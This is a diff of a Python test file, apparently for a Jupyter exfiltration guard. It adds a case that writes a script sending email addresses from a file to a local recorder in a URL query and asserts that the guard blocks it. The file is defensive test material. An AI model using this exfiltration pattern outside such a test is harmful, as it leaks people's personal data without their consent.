@@ -211,6 +211,14 @@ def test_a_child_sends_no_raw_value_in_a_request_line(kd: tuple[Kernel, Path], r
     sent = bytes(rec.received).decode("latin-1")
     assert not _raw(sent) and not _raw(_messages(r)), (sent[:300], _messages(r))
     assert "Blocked by jupyter_guard [exfiltration]" in r.everything(), r.everything()
+    (d / "get_plain.py").write_text(
+        "import sys, urllib.request\nvals = open('emails.txt').read().split()\n"
+        "urllib.request.urlopen('http://127.0.0.1:' + sys.argv[1] + '/?d=' + ','.join(vals[:20]),"
+        " timeout=10).read()\nprint('sent')\n")
+    r = k.run(EXE + f"!{{sys.executable}} get_plain.py {rec.port}", timeout=180)
+    sent = bytes(rec.received).decode("latin-1")   # no data library: the detectors decide
+    assert not _raw(sent) and not _raw(_messages(r)), (sent[:300], _messages(r))
+    assert "Blocked by jupyter_guard [exfiltration]" in r.everything(), r.everything()
     (d / "get_city.py").write_text(SCRIPTS["get.py"].replace("{col}", "city"))
     r = k.run(EXE + f"!{{sys.executable}} get_city.py {rec.port}", timeout=180)
     assert "sent" in r.stream and "Blocked" not in r.everything(), r.everything()
